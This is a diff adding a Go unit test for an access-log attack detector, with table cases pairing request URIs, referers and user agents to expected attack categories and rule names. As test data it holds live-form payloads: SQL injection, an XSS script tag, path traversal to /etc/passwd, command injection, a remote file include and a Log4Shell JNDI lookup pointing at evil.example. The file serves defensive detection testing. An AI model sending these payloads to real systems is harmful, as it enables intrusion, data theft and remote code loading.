@@ -0,0 +1,122 @@
+package access_log
+
+import (
+	"reflect"
+	"testing"
+)
+
+func Test_detectAttacks(t *testing.T) {
+	tests := []struct {
+		name           string
+		fields         map[string]string
+		wantCategories []string
+		wantRules      []string
+	}{
+		{
+			name: "Benign request",
+			fields: map[string]string{
+				"request_uri":     "/products?id=42&sort=price",
+				"http_referer":    "https://example.com/",
+				"http_user_agent": "Mozilla/5.0 (Windows NT 10.0; Win64; x64)",
+			},
+		},
+		{
+			name: "Nil values",
+			fields: map[string]string{
+				"request_uri":     "/",
+				"http_referer":    "-",
+				"http_user_agent": "-",
+			},
+		},
+		{
+			name:           "Encoded union select",
+			fields:         map[string]string{"request_uri": "/item?id=1%20UNION%20SELECT%20username,password%20FROM%20users"},
+			wantCategories: []string{AttackCategorySQLi},
+			wantRules:      []string{"sqli_union_select"},
+		},
+		{
+			name:           "Tautology",
+			fields:         map[string]string{"request_uri": "/login?user=admin'%20OR%20'1'='1"},
+			wantCategories: []string{AttackCategorySQLi},
+			wantRules:      []string{"sqli_tautology"},
+		},
+		{
+			name:           "Script tag in referer",
+			fields:         map[string]string{"request_uri": "/", "http_referer": "https://evil.example/?q=<script>alert(1)</script>"},
+			wantCategories: []string{AttackCategoryXSS},
+			wantRules:      []string{"xss_script_tag"},
+		},
+		{
+			name:           "Path traversal to passwd",
+			fields:         map[string]string{"request_uri": "/download?file=../../../../etc/passwd"},
+			wantCategories: []string{AttackCategoryLFI},
+			wantRules:      []string{"lfi_path_traversal", "lfi_sensitive_file"},
+		},
+		{
+			name:           "Double encoded traversal",
+			fields:         map[string]string{"request_uri": "/static/%252e%252e%252f%252e%252e%252fwin.ini"},
+			wantCategories: []string{AttackCategoryLFI},
+			wantRules:      []string{"lfi_path_traversal", "lfi_sensitive_file"},
+		},
+		{
+			name:           "Remote file include",
+			fields:         map[string]string{"request_uri": "/index.php?page=http://evil.example/shell.txt"},
+			wantCategories: []string{AttackCategoryRFI},
+			wantRules:      []string{"rfi_remote_url_param"},
+		},
+		{
+			name:           "Command injection",
+			fields:         map[string]string{"request_uri": "/ping?host=127.0.0.1;cat%20/etc/hosts"},
+			wantCategories: []string{AttackCategoryLFI, AttackCategoryCommandInjection},
+			wantRules:      []string{"lfi_sensitive_file", "cmdi_shell_metachar"},
+		},
+		{
+			name:           "Command injection with chained commands",
+			fields:         map[string]string{"request_uri": "/ping?host=127.0.0.1%26%26id"},
+			wantCategories: []string{AttackCategoryCommandInjection},
+			wantRules:      []string{"cmdi_shell_metachar"},
+		},
+		{
+			name:   "Query parameters named after commands",
+			fields: map[string]string{"request_uri": "/products?a=1&id=42&cat=shoes&ls=2&sh=1"},
+		},
+		{
+			name:   "Query parameter named after a command with no value",
+			fields: map[string]string{"request_uri": "/products?a=1&cat=x&id&sort=price"},
+		},
+		{
+			name:   "Trailing query parameter named after a command with no value",
+			fields: map[string]string{"request_uri": "/products?sort=price&id", "args": "sort=price&id", "query_string": "q=1&sh"},
+		},
+		{
+			name:           "Command injection after an ampersand",
+			fields:         map[string]string{"request_uri": "/ping?host=127.0.0.1%26%20id%20-a"},
+			wantCategories: []string{AttackCategoryCommandInjection},
+			wantRules:      []string{"cmdi_shell_metachar"},
+		},
+		{
+			name:           "Log4Shell in user agent",
+			fields:         map[string]string{"request_uri": "/", "http_user_agent": "${jndi:ldap://evil.example/a}"},
+			wantCategories: []string{AttackCategoryCommandInjection},
+			wantRules:      []string{"cmdi_jndi_lookup"},
+		},
+		{
+			name:           "Scanner user agent",
+			fields:         map[string]string{"request_uri": "/", "http_user_agent": "sqlmap/1.7.2#stable (https://sqlmap.org)"},
+			wantCategories: []string{AttackCategoryScanner},
+			wantRules:      []string{"scanner_user_agent"},
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			categories, rules := detectAttacks(tt.fields)
+			if !reflect.DeepEqual(categories, tt.wantCategories) {
+				t.Errorf("got categories %v, want %v", categories, tt.wantCategories)
+			}
+			if !reflect.DeepEqual(rules, tt.wantRules) {
+				t.Errorf("got rules %v, want %v", rules, tt.wantRules)
+			}
+		})
+	}
+}